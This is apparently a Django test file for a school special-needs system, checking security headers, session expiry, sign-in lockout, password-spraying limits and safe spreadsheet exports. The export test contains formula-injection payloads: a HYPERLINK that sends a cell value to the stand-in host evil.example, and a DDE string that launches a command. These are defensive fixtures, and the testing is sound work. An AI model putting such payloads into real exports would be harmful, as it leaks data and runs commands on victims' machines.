"""Production settings and headers: check --deploy is clean, a Content Security Policy
with no inline script, sessions that end, and uploads refused by size and type."""

import os
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent


def test_check_deploy_is_clean_with_production_settings(tmp_path):
    env = {"PATH": os.environ["PATH"], "HOME": os.environ.get("HOME", "/tmp"),
           "DJANGO_SETTINGS_MODULE": "backend.settings", "VAR_DIR": str(tmp_path),
           "SECRET_KEY": "k" * 40 + "-production-like-secret-for-the-check-0123456789",
           "ALLOWED_HOSTS": "sen.example.org", "EMAIL_HOST": "smtp.example.org"}
    result = subprocess.run([sys.executable, "manage.py", "check", "--deploy",
                             "--fail-level", "WARNING"], cwd=ROOT, env=env,
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "System check identified no issues" in result.stdout


@pytest.mark.django_db
def test_pages_send_a_content_security_policy_without_inline_script(client, school_a, as_user):
    as_user(school_a.senco)
    for url in ["/accounts/sign-in/", f"/s/{school_a.school.slug}/pupils/", "/api/v1/docs/"]:
        response = client.get(url)
        policy = response["Content-Security-Policy"]
        assert "script-src 'self'" in policy and "'unsafe-inline'" not in policy
        assert "frame-ancestors 'none'" in policy
        body = response.content.decode()
        assert "<script>" not in body.replace(" ", "")  # every script is a file
        assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.django_db
def test_a_session_ends_after_inactivity(settings):
    assert settings.SESSION_COOKIE_AGE == 30 * 60 and settings.SESSION_SAVE_EVERY_REQUEST


@pytest.mark.django_db
def test_repeated_failed_sign_ins_lock_the_account_out(client, school_a):
    from .factories import PASSWORD

    for _ in range(5):
        response = client.post("/accounts/sign-in/", {"username": school_a.senco.email,
                                                      "password": "wrong"})
    assert response.status_code == 429 or "Too many attempts" in response.content.decode()
    locked = client.post("/accounts/sign-in/", {"username": school_a.senco.email,
                                                "password": PASSWORD})
    assert "Too many attempts" in locked.content.decode()
    assert "_auth_user_id" not in client.session  # even the right password is refused


@pytest.mark.django_db
def test_the_api_token_endpoint_is_throttled_too(api, school_a):
    for _ in range(5):
        api.post("/api/v1/auth/token/", {"username": school_a.senco.email, "password": "x"})
    from .factories import PASSWORD

    response = api.post("/api/v1/auth/token/", {"username": school_a.senco.email,
                                                 "password": PASSWORD})
    assert response.status_code == 429  # the sign-in page's answer, not "wrong password"
    assert "Too many attempts to sign in" in response.json()["errors"][0]["detail"]
    assert "token" not in response.content.decode()


@pytest.mark.django_db
def test_sign_out_everywhere_ends_every_session_and_the_token(school_a):
    from django.test import Client
    from rest_framework.authtoken.models import Token

    from .factories import PASSWORD
    from .two_factor import app_for, code_for

    def sign_in(device):
        device.post("/accounts/sign-in/", {"username": school_a.senco.email,
                                           "password": PASSWORD})
        device.post("/accounts/sign-in/code/", {"code": code_for(app_for(school_a.senco))})
        return device

    laptop, phone = sign_in(Client()), sign_in(Client())
    Token.objects.create(user=school_a.senco)
    register = f"/s/{school_a.school.slug}/pupils/"
    assert phone.get(register).status_code == 200
    laptop.post("/accounts/sign-out-everywhere/")
    assert phone.get(register).status_code == 302  # the other device is signed out
    assert not Token.objects.filter(user=school_a.senco).exists()
    assert sign_in(Client()).get(register).status_code == 200  # signing in again works


# Findings of a black-box test ----------------------------------------------------------


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.django_db
def test_spreadsheet_exports_write_formulas_as_text(school_a, as_user):
    """A pupil named like a formula, and a session note starting "@", are text in every
    export: a leading apostrophe in CSV, a string cell in XLSX."""
    import csv
    import io

    from django.utils import timezone
    from openpyxl import load_workbook

    from apps.plans import services as plans
    from apps.plans.sessions import session_correct
    from apps.pupils.models import Pupil
    from apps.schools.tenancy import school_scope

    from .test_money_pages import heavy

    _, provision = heavy(school_a)
    with school_scope(school_a.school):
        Pupil.objects.filter(pk=school_a.pupil.pk).update(last_name=FORMULA, first_name="Ann")
        session = plans.session_record(provision=provision, actor=school_a.ta,
                                       date=timezone.localdate())
        session_correct(session=session, actor=school_a.senco, note="x",
                        correction_reason="@SUM(1+1)*cmd|' /C calc'!A0")
    client = as_user(school_a.senco)
    url = f"/s/{school_a.school.slug}/money/provision-map/"
    rows = list(csv.reader(io.StringIO(client.get(url, {"download": "csv"}).content.decode())))
    assert rows[1][0] == f"'{FORMULA}, Ann"
    detail = load_workbook(io.BytesIO(client.get(url, {"download": "xlsx"}).content))["Detail"]
    assert detail["A2"].value == f"{FORMULA}, Ann" and detail["A2"].data_type == "s"
    audit = client.get(f"/s/{school_a.school.slug}/pupils/{school_a.pupil.pk}/audit/",
                       {"download": "csv"}).content.decode()
    why = [row[6] for row in list(csv.reader(io.StringIO(audit)))[1:] if row[6]]
    assert why and all(reason.startswith("'@") for reason in why)


@pytest.mark.django_db
def test_responses_with_a_childs_data_are_never_cached(school_a, as_user, api_as):
    slug, pupil = school_a.school.slug, school_a.pupil
    client = as_user(school_a.senco)
    answers = [client.get(f"/s/{slug}/pupils/{pupil.pk}/"),
               client.get(f"/s/{slug}/money/provision-map/", {"download": "csv"}),
               client.get(f"/s/{slug}/pupils/{pupil.pk}/audit/", {"download": "csv"}),
               api_as(school_a.senco).get(f"/api/v1/schools/{slug}/pupils/{pupil.pk}/")]
    for answer in answers:
        assert answer.status_code == 200
        directives = {d.strip() for d in answer["Cache-Control"].split(",")}
        assert {"no-store", "private"} <= directives, answer["Cache-Control"]


@pytest.mark.django_db
def test_the_api_schema_and_its_documentation_need_a_signed_in_user(client, api, school_a):
    assert api.get("/api/v1/schema/").status_code in (401, 403)
    docs = client.get("/api/v1/docs/")
    assert docs.status_code == 302 and "/accounts/sign-in/" in docs["Location"]
    api.force_authenticate(school_a.teacher)
    assert api.get("/api/v1/schema/").status_code == 200


@pytest.mark.django_db
def test_a_role_that_may_not_see_plans_finds_no_provision_library_entry(school_a, as_user,
                                                                       api_as):
    from .factories import ProvisionTypeFactory

    kind = ProvisionTypeFactory(school=school_a.school, name="Talk Boost")
    slug = school_a.school.slug
    assert api_as(school_a.parent).get(
        f"/api/v1/schools/{slug}/provision-types/{kind.pk}/").status_code == 404
    assert api_as(school_a.teacher).get(
        f"/api/v1/schools/{slug}/provision-types/{kind.pk}/").status_code == 200


@pytest.mark.django_db
def test_many_accounts_tried_from_one_address_stop_sign_in_from_it(client, api, school_a):
    """Password spraying: each account tried once, twenty accounts from one address."""
    from apps.accounts.rules import SPRAY_ACCOUNTS

    from .factories import PASSWORD, UserFactory

    for n in range(SPRAY_ACCOUNTS):
        client.post("/accounts/sign-in/", {"username": f"staff{n}@elsewhere.example",
                                           "password": "Summer2026!"})
    refused = client.post("/accounts/sign-in/", {"username": school_a.teacher.email,
                                                 "password": PASSWORD})
    assert refused.status_code == 429 and "Too many attempts" in refused.content.decode()
    assert "_auth_user_id" not in client.session
    token = api.post("/api/v1/auth/token/", {"username": school_a.teacher.email,
                                             "password": PASSWORD})
    assert token.status_code == 429
    elsewhere = UserFactory(email="someone@elsewhere.example")
    from django.test import Client

    other_address = Client(REMOTE_ADDR="192.0.2.7")
    signed_in = other_address.post("/accounts/sign-in/", {"username": elsewhere.email,
                                                         "password": PASSWORD})
    assert signed_in.status_code == 302
